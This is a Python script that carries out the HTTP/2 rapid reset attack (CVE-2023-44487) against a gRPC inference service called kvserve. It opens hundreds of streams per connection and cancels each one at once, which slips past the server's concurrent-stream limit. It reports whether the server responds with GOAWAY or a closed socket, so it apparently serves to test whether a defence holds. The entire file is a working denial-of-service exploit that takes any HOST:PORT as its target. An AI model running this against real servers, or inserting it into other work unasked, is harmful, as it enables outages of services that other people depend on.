#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against kvserve's GenerateStream.

Opens `streams` streams on one connection, each HEADERS + a GenerateRequest
DATA frame followed at once by RST_STREAM(CANCEL), the way the attack is
made: the cancelled streams never count against the server's
MAX_CONCURRENT_STREAMS. Reports how many streams went out and whether the
server closed the connection (GOAWAY or a closed socket).

  rapid_reset.py HOST:PORT [--streams N] [--connections C] [--never-send]

--never-send opens streams (HEADERS only) and leaves them open, never
sending a message or a reset: the "opened but never sent" case.
Needs Python `h2` (Debian python3-h2)."""
import argparse
import json
import select
import socket
import struct
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions

# kvserve.v1.GenerateRequest{token_ids{ids:[1,2,3]}, stopping{max_new_tokens:32}},
# written by hand so that the tool needs no generated stubs.
_REQUEST = bytes([0x1a, 0x05, 0x0a, 0x03, 0x01, 0x02, 0x03, 0x2a, 0x02, 0x08, 0x20])
_GRPC_MESSAGE = b"\x00" + struct.pack(">I", len(_REQUEST)) + _REQUEST


def _headers(authority):
    return [(":method", "POST"), (":scheme", "http"), (":authority", authority),
            (":path", "/kvserve.v1.Inference/GenerateStream"),
            ("content-type", "application/grpc"), ("te", "trailers")]


class Attack:
    def __init__(self, target):
        host, port = target.rsplit(":", 1)
        self.authority = target
        self.sock = socket.create_connection((host, int(port)))
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.conn.initiate_connection()
        self.sent = 0
        self.goaway = False
        self.closed = False
        self.flush()

    def flush(self):
        data = self.conn.data_to_send()
        if data and not self.closed:
            try:
                self.sock.sendall(data)
            except OSError:
                self.closed = True

    def read_available(self, timeout=0.0):
        """Feeds what the server sent to h2; notes a GOAWAY or a closed socket."""
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], timeout)
            if not ready:
                return
            try:
                data = self.sock.recv(1 << 20)
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                events = []
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.goaway = True
                elif isinstance(event, h2.events.DataReceived):
                    # Keep the connection's window open, as a real client would.
                    self.conn.acknowledge_received_data(event.flow_controlled_length,
                                                        event.stream_id)
            self.flush()
            timeout = 0.0

    def open_streams(self, count, reset):
        for i in range(count):
            if self.closed or self.goaway:
                return
            try:
                stream_id = self.conn.get_next_available_stream_id()
                self.conn.send_headers(stream_id, _headers(self.authority))
                if reset:
                    self.conn.send_data(stream_id, _GRPC_MESSAGE, end_stream=True)
                    self.conn.reset_stream(stream_id, error_code=8)  # CANCEL
            except h2.exceptions.ProtocolError:
                # e.g. TooManyStreamsError: the server's stream limit (only
                # reached by --never-send, whose streams stay open).
                self.flush()
                return
            self.sent += 1
            if i % 50 == 49:
                self.flush()
                self.read_available()
        self.flush()

    def close(self):
        self.sock.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("--streams", type=int, default=1000)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--never-send", action="store_true")
    parser.add_argument("--linger-s", type=float, default=1.0,
                        help="after the streams, read the server's replies this long")
    args = parser.parse_args()
    report = []
    for _ in range(args.connections):
        attack = Attack(args.target)
        attack.open_streams(args.streams, reset=not args.never_send)
        attack.read_available(timeout=args.linger_s)
        report.append({"sent": attack.sent, "goaway": attack.goaway, "closed": attack.closed})
        if not args.never_send:
            attack.close()
    json.dump(report, sys.stdout)
    print()


if __name__ == "__main__":
    main()
